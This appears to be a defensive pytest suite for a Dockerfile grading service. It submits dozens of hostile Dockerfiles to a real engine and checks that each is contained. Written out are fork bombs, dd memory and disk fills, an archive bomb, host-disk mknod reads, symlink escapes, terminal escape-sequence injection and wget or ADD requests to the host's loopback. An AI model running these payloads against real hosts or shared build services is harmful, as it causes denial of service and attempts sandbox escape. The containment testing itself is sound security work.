"""Hostile submissions on a real engine: each is held, the learner is told, and nothing is left.

`DOCKYARD_WRITE_LIMITS=1 pytest tests/hostile/test_attacks.py` writes the table of docs/limits.md from the run.
"""

from __future__ import annotations

import gzip
import json
import os
import re
import socket
import tarfile
import threading
import time
import uuid
from collections.abc import Callable, Iterator, Mapping
from contextlib import suppress
from dataclasses import dataclass, field, replace
from datetime import UTC, datetime
from pathlib import Path
from time import monotonic
from typing import TYPE_CHECKING

import pytest

from graders.build_network import BuildNetwork
from graders.cancel import Cancel
from graders.engine.base import BuildRequest, BuildResult, ContextFile
from graders.engine.service import ServiceRequest
from graders.errors import SubmissionError
from graders.event import GradeFinished
from graders.exercise import ExerciseSpec, read_exercise
from graders.formats.json import dumps
from graders.formats.text import render
from graders.limits import MIB, Limits
from graders.outcome import Status
from graders.pipeline import grade
from graders.report import Report
from graders.submission import read_submission

if TYPE_CHECKING:
    from tests.hostile.conftest import Measured, Room

pytestmark = pytest.mark.engine
BASE = "busybox:1.35"
ENVIRON = {"PATH": "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin", "LC_ALL": "C"}
PAGE = Path(__file__).parents[2] / "docs" / "limits.md"
BEGIN, END = "<!-- hostile: begin -->", "<!-- hostile: end -->"
GROUP_MIB, GROUP_PIDS = 512, 300
BUILD_DISK_MIB, RUN_DISK_MIB = 200, 450
BUSY = 2.5
"""How much longer all may take on a machine that does other work."""
BEGUN_S = 5.0
"""The shortest limit of time for a build: within it an engine tells of the first step, or it is the engine that is late
and no submission is to blame. Beside other work one took 1.3 s for that."""
SPEC = """
format = 1
id = "hostile"
title = "Hostile"
minutes = 1
[limits]
build_s = 90.0
build_idle_s = 60.0
run_s = 30.0
memory_mib = 64
pids = 32
output_kib = 16
build_log_kib = 64
context_mib = 2
build_disk_mib = 200
run_disk_mib = 450
disk_headroom_mib = 100
[[checks]]
use = "build-fails"
[[checks]]
use = "exits-with-error"
"""


@dataclass(frozen=True)
class Seen:
    """How a submission ended."""

    outcome: str
    told: str
    report: Report | None = None


@dataclass(frozen=True)
class Attack:
    """One row of the table. `outcome`: passed (harmless), failed, errored or refused."""

    name: str
    contained_by: str
    outcome: str
    told: str
    """A regular expression over what the learner is told."""
    dockerfile: str
    seconds: float
    """Within how many seconds it must be over."""
    prepare: Callable[[Path], None] = field(default=lambda _folder: None)
    disk_mib: int = 0
    """The limit of what it may write; 0: it is not about the disk, and the larger one holds."""
    held_s: Mapping[str, float] = field(default_factory=dict)
    """The limit of time that holds it, by its name. The others are never reached, however busy the machine is."""
    is_alone: bool = False
    """Whether nothing may run beside it: it takes what others need, or how fast it is stopped depends on them."""


def lines(*text: str) -> str:
    return f"FROM {BASE}\n" + "".join(f"{line}\n" for line in text)


def no_change(_folder: Path) -> None:
    """The Dockerfile alone."""


def big_file(folder: Path) -> None:
    """Ten gigabytes that take no disk: only the size counts."""
    with (folder / "big.bin").open("wb") as file:
        file.truncate(10 * 1024 * MIB)


def many_files(folder: Path) -> None:
    """One more than the limit."""
    (folder / "many").mkdir()
    for number in range(Limits().context_files + 1):
        (folder / "many" / f"{number}").touch()


def links_out(folder: Path) -> None:
    """Links to the host's files, direct and through a folder."""
    (folder / "passwd").symlink_to("/etc/hostname")
    (folder / "root").symlink_to("/")


def fifos(folder: Path) -> None:
    """A FIFO beside the Dockerfile, and a socket."""
    os.mkfifo(folder / "pipe")
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind(str(folder / "s"))


def fifo_dockerfile(folder: Path) -> None:
    """The Dockerfile itself is a FIFO: reading it would wait for ever."""
    (folder / "Dockerfile").unlink()
    os.mkfifo(folder / "Dockerfile")


def device_archive(folder: Path) -> None:
    """A tar with a node of the host's first disk."""
    device = Path("/proc/partitions").read_text("ascii").splitlines()[2].split()
    node = tarfile.TarInfo("evil")
    node.type, node.mode = tarfile.BLKTYPE, 0o666
    node.devmajor, node.devminor = int(device[0]), int(device[1])
    with tarfile.open(folder / "evil.tar", "w", format=tarfile.USTAR_FORMAT) as tar:
        tar.addfile(node)


def archive_bomb(folder: Path) -> None:
    """Two gigabytes in two megabytes."""
    header = tarfile.TarInfo("big")
    header.size = 2048 * MIB
    packed = gzip.compress(bytes(16 * MIB), 6)
    data = gzip.compress(header.tobuf(tarfile.GNU_FORMAT)) + packed * 128 + gzip.compress(bytes(1024))
    (folder / "bomb.tar.gz").write_bytes(data)


def odd_names(folder: Path) -> None:
    """Names that are markup or terminal commands."""
    (folder / "[red]evil[").write_text("x")
    (folder / "\x1b]52;c;ZXZpbA==\x07").write_text("x")
    (folder / "a\u202eb").write_text("x")


ATTACKS = (
    Attack(
        "fork bomb in RUN",
        "process limit of the engine's group",
        "failed",
        "fork: Resource temporarily unavailable",
        lines("RUN b() { b | b & }; b; i=0; while [ $i -lt 9 ]; do sleep 1; /bin/true || exit 7; i=$((i+1)); done"),
        15.0,
        held_s={"build_s": BEGUN_S},
        is_alone=True,
    ),
    Attack(
        "memory bomb in RUN",
        "memory limit of the engine's group",
        "failed",
        "exit code: 137|Killed|without a sign of life",
        lines("RUN dd if=/dev/zero of=/dev/null bs=1000M count=1"),
        15.0,
        held_s={"build_idle_s": BEGUN_S},
        is_alone=True,
    ),
    Attack(
        "disk fill in RUN",
        "disk watchdog",
        "failed",
        "wrote .* MiB, and one build may write 200 MiB",
        lines("RUN dd if=/dev/zero of=/big bs=1M"),
        20.0,
        disk_mib=BUILD_DISK_MIB,
        is_alone=True,
    ),
    Attack(
        "archive bomb in ADD",
        "archives are weighed before they are sent",
        "failed",
        "bomb.tar.gz unpacks to more than 200 MiB",
        lines("ADD bomb.tar.gz /"),
        10.0,
        archive_bomb,
    ),
    Attack(
        "gigabytes of log from RUN",
        "the builder's own log cap, time limit",
        "failed",
        "stopped after|MiB of output",
        lines("RUN yes"),
        15.0,
        held_s={"build_s": BEGUN_S},
    ),
    Attack(
        "RUN that talks for ever",
        "time limit of a build",
        "failed",
        "stopped after 5 seconds",
        lines("RUN while sleep 0.5; do echo x; done"),
        14.0,
        held_s={"build_s": BEGUN_S},
    ),
    Attack(
        "RUN that sleeps for ever",
        "idle limit of a build",
        "failed",
        "without a sign of life",
        lines("RUN sleep 100000"),
        10.0,
        held_s={"build_idle_s": BEGUN_S},
    ),
    Attack(
        "RUN that ignores SIGTERM",
        "idle limit of a build, then SIGKILL",
        "failed",
        "without a sign of life",
        lines("RUN trap '' TERM INT HUP; while :; do sleep 9; done"),
        10.0,
        held_s={"build_idle_s": BEGUN_S},
    ),
    Attack(
        "variables that multiply themselves",
        "their length is counted before anything is sent",
        "failed",
        "Line 6: its variables make it longer than 64 KiB",
        lines("ENV A0=xxxxxxxxxx", *(f"ENV A{at + 1}={f'$A{at}' * 10}" for at in range(9))),
        2.0,
    ),
    Attack(
        "thousands of instructions",
        "they are counted before anything is sent",
        "failed",
        "at most 1,000 are built",
        lines(*["RUN true"] * 2000),
        4.0,
    ),
    Attack(
        "process left behind by RUN",
        "its process namespace ends with the step",
        "passed",
        "^$",
        lines("RUN (trap '' HUP; sleep 100000 &) ; true", 'CMD ["true"]'),
        10.0,
    ),
    Attack("RUN --network=host", "refused by the builder", "failed", ".", lines("RUN --network=host true"), 6.0),
    Attack(
        "RUN --security=insecure", "refused by the builder", "failed", ".", lines("RUN --security=insecure true"), 6.0
    ),
    Attack(
        "disk of the host mounted in RUN",
        "capabilities and device rules of a step",
        "failed",
        ".",
        lines("RUN mknod /d b $(awk 'NR==3{print $1, $2}' /proc/partitions) && dd if=/d of=/dev/null count=1"),
        8.0,
    ),
    Attack(
        "build reaches the engine's socket",
        "it is not in the step's file system",
        "failed",
        ".",
        lines("RUN ls /var/run/docker.sock /run/dockyard/engine.sock"),
        8.0,
    ),
    Attack(
        "fork bomb in CMD",
        "process limit of a run",
        "failed",
        "fork|exit code|still running",
        lines('CMD ["sh", "-c", "b() { b | b & }; b; sleep 60"]'),
        10.0,
        held_s={"run_s": 2.0},
        is_alone=True,
    ),
    Attack(
        "memory bomb in CMD",
        "memory limit of a run",
        "failed",
        "more memory|137",
        lines('CMD ["dd", "if=/dev/zero", "of=/dev/null", "bs=500M", "count=1"]'),
        10.0,
        is_alone=True,
    ),
    Attack(
        "disk fill in CMD, one file",
        "file size limit of a run",
        "failed",
        "no file of a run may have more than 450 MiB",
        lines('CMD ["dd", "if=/dev/zero", "of=/big", "bs=1M"]'),
        10.0,
        disk_mib=RUN_DISK_MIB,
        is_alone=True,
    ),
    Attack(
        "disk fill in CMD, many files",
        "disk watchdog",
        "failed",
        "wrote .* MiB, and one run may write 450 MiB",
        lines('CMD ["sh", "-c", "i=0; while i=$((i+1)); do dd if=/dev/zero of=/$i bs=1M count=20; done"]'),
        10.0,
        disk_mib=RUN_DISK_MIB,
        is_alone=True,
    ),
    Attack(
        "disk fill in CMD, into a volume",
        "disk watchdog",
        "failed",
        "wrote .* MiB, and one run may write 450 MiB",
        lines(
            "VOLUME /v",
            'CMD ["sh", "-c", "for i in 1 2 3 4 5 6 7 8 9; do dd if=/dev/zero of=/v/$i bs=1M count=90; done"]',
        ),
        10.0,
        disk_mib=RUN_DISK_MIB,
        is_alone=True,
    ),
    Attack(
        "gigabytes of log from CMD",
        "log cap of a run",
        "failed",
        "still running",
        lines('CMD ["yes"]'),
        15.0,
        held_s={"run_s": 2.0},
    ),
    Attack(
        "HEALTHCHECK every millisecond that floods",
        "one at a time, in the walls of the run; its output is cut",
        "passed",
        "^$",
        lines("HEALTHCHECK --interval=1ms --timeout=10m --retries=9999 CMD yes", 'CMD ["sleep", "0.5"]'),
        8.0,
    ),
    Attack(
        "CMD that sleeps for ever",
        "time limit of a run",
        "failed",
        "still running after 2 s",
        lines('CMD ["sleep", "100000"]'),
        10.0,
        held_s={"run_s": 2.0},
    ),
    Attack(
        "CMD that ignores SIGTERM",
        "time limit of a run, then SIGKILL",
        "failed",
        "still running after 2 s",
        lines('CMD ["sh", "-c", "trap \'\' TERM INT; while :; do sleep 1; done"]'),
        10.0,
        held_s={"run_s": 2.0},
    ),
    Attack(
        "context of ten gigabytes",
        "context limit, before anything is read",
        "refused",
        "more than 2 MiB",
        lines("COPY . /"),
        1.0,
        big_file,
    ),
    Attack(
        "thousands of small files",
        "file limit, before anything is sent",
        "refused",
        "more than 5000 files",
        lines("COPY . /"),
        4.0,
        many_files,
    ),
    Attack(
        "links out of the context",
        "links are sent as links, never followed",
        "failed",
        ".",
        lines("COPY passwd root /host/", "RUN cat /host/passwd/nothing"),
        8.0,
        links_out,
    ),
    Attack(
        "FIFO and socket in the context",
        "left out, with a notice",
        "passed",
        "neither a file, a folder nor a link",
        lines("COPY . /", 'CMD ["true"]'),
        8.0,
        fifos,
    ),
    Attack(
        "FIFO in place of the Dockerfile",
        "only regular files are read, without waiting",
        "refused",
        "not a regular file",
        "",
        1.0,
        fifo_dockerfile,
    ),
    Attack(
        "device node in an archive",
        "device rules and capabilities of a run",
        "failed",
        "not permitted|Permission denied",
        lines("ADD evil.tar /", 'CMD ["dd", "if=/evil", "of=/dev/null", "count=1"]'),
        8.0,
        device_archive,
    ),
    Attack(
        "escape sequences and markup in output",
        "text is cleaned where it enters",
        "failed",
        r"\[red\]not markup\[/x\]",
        lines("RUN printf '\\033]52;c;ZXZpbA==\\007\\033[2J\\233[red]not markup[/x]\\n'; exit 3"),
        8.0,
    ),
    Attack(
        "escape sequences and markup in file names",
        "such names are left out; text is cleaned",
        "failed",
        ".",
        lines("COPY . /x/", "RUN ls /x/*; exit 3"),
        8.0,
        odd_names,
    ),
    Attack(
        "# syntax= with a foreign frontend",
        "the line is left out in transit",
        "passed",
        "^$",
        "# syntax=registry.invalid/evil/frontend:1\n" + lines('CMD ["true"]'),
        8.0,
    ),
    Attack(
        "FROM a registry that does not answer",
        "time limit of a pull",
        "errored",
        "not on this engine",
        "FROM registry.invalid/evil:1\n",
        25.0,
    ),
    Attack(
        "CMD that is a shell bomb without a shell",
        "the engine's own message",
        "failed",
        "could not be started",
        f"FROM {BASE} AS b\nFROM scratch\nCOPY --from=b /bin/busybox /only\nCMD b(){{ b|b& }};b\n",
        8.0,
    ),
    Attack(
        "image without a shell",
        "nothing of ours runs inside",
        "passed",
        "^$",
        f'FROM {BASE} AS b\nFROM scratch\nCOPY --from=b /bin/busybox /true\nCMD ["/true"]\n',
        8.0,
    ),
    Attack(
        "ONBUILD trap",
        "it is a build step like any other",
        "failed",
        "without a sign of life",
        f"FROM {BASE} AS trap\nONBUILD RUN sleep 100000\nFROM trap\n",
        10.0,
        held_s={"build_idle_s": BEGUN_S},
    ),
    Attack(
        "our label with another's run id",
        "our own value wins",
        "passed",
        "^$",
        lines("LABEL dev.dockyard.run=0123456789abcdef", 'CMD ["true"]'),
        8.0,
    ),
    Attack(
        "volumes that a run fills",
        "volumes go with the container",
        "passed",
        "^$",
        lines("VOLUME /v", 'CMD ["dd", "if=/dev/zero", "of=/v/x", "bs=1M", "count=4"]'),
        8.0,
    ),
)
"""Attacks that are a folder with a Dockerfile, graded as any submission is."""


@dataclass(frozen=True)
class Special:
    """One row of the table that takes more than one submission, or a helper on the host."""

    name: str
    contained_by: str
    outcome: str
    play: Callable[[Room, ExerciseSpec, Path], Seen]


def poisoned_cache_mount(room: Room, spec: ExerciseSpec, tmp_path: Path) -> Seen:
    """One learner puts something into a cache folder; another looks for it there."""
    mount = "RUN --mount=type=cache,target=/c"
    first = graded(folder_of(tmp_path, "a", lines(f"{mount} touch /c/evil", 'CMD ["true"]')), spec, room)
    second = graded(folder_of(tmp_path, "b", lines(f"{mount} test ! -e /c/evil", 'CMD ["true"]')), spec, room)
    assert "passed" == first.outcome, first.told
    return second


def hidden_cache_mount(room: Room, spec: ExerciseSpec, tmp_path: Path) -> Seen:
    """A mount written so that its id can't be marked."""
    return graded(folder_of(tmp_path, "a", lines("RUN --mount=ty\\", "pe=cache,target=/c true")), spec, room)


def image_of_another(room: Room, spec: ExerciseSpec, tmp_path: Path) -> Seen:
    """FROM the id of an image that another learner's check has just built."""
    request = BuildRequest((ContextFile("Dockerfile", lines("RUN echo secret > /s").encode()),), "victim", spec.limits)
    *_, result = room.engine.build(request, Cancel())
    assert isinstance(result, BuildResult)
    try:
        text = f'FROM {result.image_id.removeprefix("sha256:")}\nCMD ["cat", "/s"]\n'
        return graded(folder_of(tmp_path, "a", text), spec, room)
    finally:
        room.engine.remove("victim")


def retagged_base(room: Room, spec: ExerciseSpec, tmp_path: Path) -> Seen:
    """A build can't move a tag: the base is the same image before and after."""
    before = room.engine.image(BASE)
    folder = folder_of(tmp_path, "a", f"FROM {BASE} AS {BASE.partition(':')[0]}\nRUN touch /evil\nLABEL name={BASE}\n")
    seen = graded(folder, spec, room)
    after = room.engine.image(BASE)
    assert before is not None
    assert before == after
    return seen


def loopback(room: Room, spec: ExerciseSpec, tmp_path: Path) -> Seen:
    """A service of the host that listens on its loopback only."""
    return visited("127.0.0.1", "127.0.0.1", room, spec, tmp_path)


def gateway(room: Room, spec: ExerciseSpec, tmp_path: Path) -> Seen:
    """A service of the host that listens on every interface, reached over the builds' bridge."""
    return visited("0.0.0.0", room.paths.bridge.address, room, spec, tmp_path)


def visited(listen_on: str, visit: str, room: Room, spec: ExerciseSpec, tmp_path: Path) -> Seen:
    """A build asks a service of the host; "reached" is a build that got its answer."""
    with socket.create_server((listen_on, 0)) as server:
        server.settimeout(60.0)

        def answer() -> None:
            with suppress(OSError):
                peer, _ = server.accept()
                with peer:
                    peer.recv(1000)
                    peer.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nhi")

        threading.Thread(target=answer, daemon=True).start()
        url = f"http://{visit}:{server.getsockname()[1]}/"
        seen = graded(folder_of(tmp_path, "a", lines(f"RUN timeout 20 wget -q -O- {url}", 'CMD ["true"]')), spec, room)
        return replace(seen, outcome="reached" if seen.outcome == "passed" else seen.outcome)


def gateway_index(room: Room, spec: ExerciseSpec, tmp_path: Path) -> Seen:
    """The same, by a build that may reach the package index only."""
    held = replace(spec, build=replace(spec.build, network=BuildNetwork.INDEX))
    return visited("0.0.0.0", room.paths.bridge.address, room, held, tmp_path)


def service(room: Room, _spec: ExerciseSpec, _tmp_path: Path) -> Seen:
    """A program that is served asks the host at its end of their network, and at the builds' bridge."""
    request = BuildRequest((ContextFile("Dockerfile", lines("RUN true").encode()),), "service", Limits())
    *_, built = room.engine.build(request, Cancel())
    assert isinstance(built, BuildResult)
    with socket.create_server(("0.0.0.0", 0)) as server:
        server.settimeout(60.0)
        visitors: list[str] = []

        def answer() -> None:
            with suppress(OSError):
                while True:
                    peer, address = server.accept()
                    visitors.append(address[0])
                    peer.close()

        threading.Thread(target=answer, daemon=True).start()
        port = server.getsockname()[1]
        ask = " ".join(
            f"timeout 5 wget -q -O- http://{host}:{port}/ 2>&1;"
            for host in ("$(hostname -i | sed 's/[.][0-9]*$/.1/')", room.paths.bridge.address)
        )
        args = ("sh", "-c", f"{{ {ask} }} | tee /tmp/told; exec httpd -f -p 8000 -h /tmp")
        wanted = ServiceRequest(built.image_id, "service", Limits(memory_mib=64), 8000, args=args, tmpfs=("/tmp",))
        try:
            with room.engine.serve(wanted, Cancel()) as running:
                deadline = monotonic() + 60.0
                while (told := running.http("GET", "/told")).status != 200 and monotonic() < deadline:
                    time.sleep(0.05)
        finally:
            room.engine.remove("service")
    assert 200 == told.status, "this machine must reach the service"
    return Seen("reached" if visitors else "failed", told.body.decode())


def fetched(text: Callable[[str], str], room: Room, spec: ExerciseSpec, tmp_path: Path) -> Seen:
    """What the engine itself is asked to fetch, from a service on the host's loopback; "reached" is a request there."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(60.0)
        visitors: list[bytes] = []

        def answer() -> None:
            with suppress(OSError):
                while True:
                    peer, _ = server.accept()
                    with peer:
                        visitors.append(peer.recv(1000))
                        peer.sendall(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nhi")

        threading.Thread(target=answer, daemon=True).start()
        seen = graded(folder_of(tmp_path, "a", text(f"127.0.0.1:{server.getsockname()[1]}")), spec, room)
        return replace(seen, outcome="reached" if visitors else seen.outcome)


def add_loopback(room: Room, spec: ExerciseSpec, tmp_path: Path) -> Seen:
    """ADD of an address, which the engine fetches and no step."""
    return fetched(lambda host: lines(f"ADD http://{host}/secret /s", 'CMD ["cat", "/s"]'), room, spec, tmp_path)


def add_closed(room: Room, spec: ExerciseSpec, tmp_path: Path) -> Seen:
    """The same in a build that has no network."""
    held = replace(spec, build=replace(spec.build, network=BuildNetwork.OFF))
    return fetched(lambda host: lines(f"ARG A=http\nADD $A://{host}/secret /s"), room, held, tmp_path)


def from_loopback(room: Room, spec: ExerciseSpec, tmp_path: Path) -> Seen:
    """A registry on the host's loopback, which engines ask without TLS."""
    return fetched(lambda host: f"FROM {host}/a/b:1\n", room, spec, tmp_path)


SPECIAL = (
    Special("poisoned cache mount", "each submission's mounts have ids of their own", "passed", poisoned_cache_mount),
    Special("cache mount written to hide", "what can't be marked is not built", "failed", hidden_cache_mount),
    Special(
        "FROM the image of another learner",
        "the builder takes names only, our images have none",
        "failed",
        image_of_another,
    ),
    Special("base image's tag taken over", "builds never tag", "passed", retagged_base),
    Special("build reaches the host's loopback", "a step has a network of its own", "failed", loopback),
    Special("ADD has the engine ask the host's loopback", "firewall rules for the engine", "errored", add_loopback),
    Special("ADD of an address in a build without a network", "refused before it is sent", "failed", add_closed),
    Special("FROM a registry on the host's loopback", "firewall rules for the engine", "errored", from_loopback),
    Special("build reaches services on all the host's addresses", "NOT contained: see below", "reached", gateway),
    Special(
        "the same from a build held to the package index", "the bridge is closed meanwhile", "failed", gateway_index
    ),
    Special("the same from a program that is served", "firewall rules for services", "failed", service),
)
"""Attacks on other learners and on the host."""


@pytest.fixture
def spec(tmp_path: Path) -> ExerciseSpec:
    """A small exercise with tight limits."""
    (tmp_path / "exercise.toml").write_text(SPEC, "utf-8")
    return read_exercise(tmp_path)


@pytest.fixture(scope="module")
def table() -> Iterator[dict[str, tuple[str, ...]]]:
    """Rows of this run by name; written to the page at the end where that is asked for."""
    rows: dict[str, tuple[str, ...]] = {}
    yield rows
    if os.environ.get("DOCKYARD_WRITE_LIMITS") and len(rows) == len(ATTACKS) + len(SPECIAL):
        text = PAGE.read_text("utf-8")
        head, _, rest = text.partition(BEGIN)
        made = "".join(f"| {' | '.join(rows[each.name])} |\n" for each in (*ATTACKS, *SPECIAL))
        made = (
            "| attack | contained by | outcome | over after | most memory, processes, disk | left over"
            " | the learner is told |\n"
            "|---|---|---|---|---|---|---|\n" + made
        )
        PAGE.write_text(f"{head}{BEGIN}\n{made}{END}{rest.partition(END)[2]}", "utf-8")


def graded(folder: Path, spec: ExerciseSpec, room: Room) -> Seen:
    """Read and grade a folder as a check does it."""
    try:
        submission = read_submission(folder, spec.limits)
    except SubmissionError as error:
        return Seen("refused", error.message)
    *_, last = grade(
        submission,
        spec,
        room.open,
        cancel=Cancel(),
        nonce=uuid.uuid4().hex,
        now=lambda: datetime.now(UTC),
        clock=monotonic,
        environ=ENVIRON,
    )
    assert isinstance(last, GradeFinished)
    report = last.report
    texts = list(report.notices)
    for outcome in report.outcomes:
        texts += [f"{finding.message}: {finding.observed}" for finding in outcome.findings]
        if outcome.status is Status.ERRORED:
            texts.append(outcome.reason)
    return Seen(report.verdict.value, "\n".join(texts), report)


def note(
    table: dict[str, tuple[str, ...]], name: str, contained_by: str, seen: Seen, measured: Measured, told: str = "."
) -> None:
    """Add a row; `told` picks the line that is shown."""
    shown = [line for line in seen.told.splitlines() if "stand-in" not in line and re.search(told, line)]
    words = re.sub(r"[|`<>\\]", " ", shown[0] if shown else "").strip()[:160]
    cost = f"{measured.memory_mib} MiB, {measured.pids}, {measured.disk_mib} MiB"
    table[name] = (
        name,
        contained_by,
        seen.outcome,
        f"{measured.seconds:.1f} s",
        cost,
        ", ".join(measured.left) or "nothing",
        words or "nothing: it is harmless",
    )


@pytest.mark.parametrize(
    "attack",
    [pytest.param(attack, id=attack.name, marks=[pytest.mark.alone] * attack.is_alone) for attack in ATTACKS],
)
def test_attack_is_contained(
    attack: Attack, room: Room, spec: ExerciseSpec, tmp_path: Path, table: dict[str, tuple[str, ...]]
) -> None:
    """Held within its limits and its time, told in clean words, nothing left."""
    folder = tmp_path / "submission"
    folder.mkdir()
    (folder / "Dockerfile").write_text(attack.dockerfile, "utf-8")
    attack.prepare(folder)
    spec = replace(spec, limits=replace(spec.limits, **attack.held_s))  # type: ignore[arg-type]
    with room.measured() as measured:
        seen = graded(folder, spec, room)
    note(table, attack.name, attack.contained_by, seen, measured, attack.told)
    told = "\n".join(line for line in seen.told.splitlines() if "stand-in" not in line)

    assert (attack.outcome, []) == (seen.outcome, measured.left), seen.told
    assert re.search(attack.told, told), told
    assert measured.seconds < attack.seconds * BUSY
    assert measured.memory_mib <= GROUP_MIB * 1.1
    assert measured.pids <= GROUP_PIDS
    if room.has_own_disk or attack.is_alone:
        assert measured.disk_mib <= (attack.disk_mib or BUILD_DISK_MIB) * 1.1 + measured.fastest_mib * BUSY, measured
        assert measured.disk_kept_mib < 32
    if seen.report is not None:
        assert all(
            is_clean(text) for text in (*strings(json.loads(dumps(seen.report))), render(seen.report, colour=False))
        )


def folder_of(tmp_path: Path, name: str, dockerfile: str) -> Path:
    """A submission that is a Dockerfile."""
    folder = tmp_path / name
    folder.mkdir()
    (folder / "Dockerfile").write_text(dockerfile, "utf-8")
    return folder


@pytest.mark.parametrize("attack", SPECIAL, ids=lambda attack: attack.name)
def test_attack_on_others_is_contained(
    attack: Special, room: Room, spec: ExerciseSpec, tmp_path: Path, table: dict[str, tuple[str, ...]]
) -> None:
    """What one submission does reaches no other, nor the host; where it does, the page says so."""
    with room.measured() as measured:
        seen = attack.play(room, spec, tmp_path)
    note(table, attack.name, attack.contained_by, seen, measured)

    assert (attack.outcome, []) == (seen.outcome, measured.left), seen.told


def test_page_is_in_step() -> None:
    """docs/limits.md names every attack, what contains it and how it ends."""
    table = PAGE.read_text("utf-8").partition(BEGIN)[2].partition(END)[0]
    rows = [[cell.strip() for cell in line.strip("| ").split(" | ")] for line in table.strip().splitlines()[2:]]

    assert [[each.name, each.contained_by, each.outcome] for each in (*ATTACKS, *SPECIAL)] == [row[:3] for row in rows]


def strings(value: object) -> Iterator[str]:
    """Every text in a decoded report."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        yield from strings(list(value.values()))
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


def is_clean(text: str) -> bool:
    """Whether no character could steer a terminal."""
    return not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text)
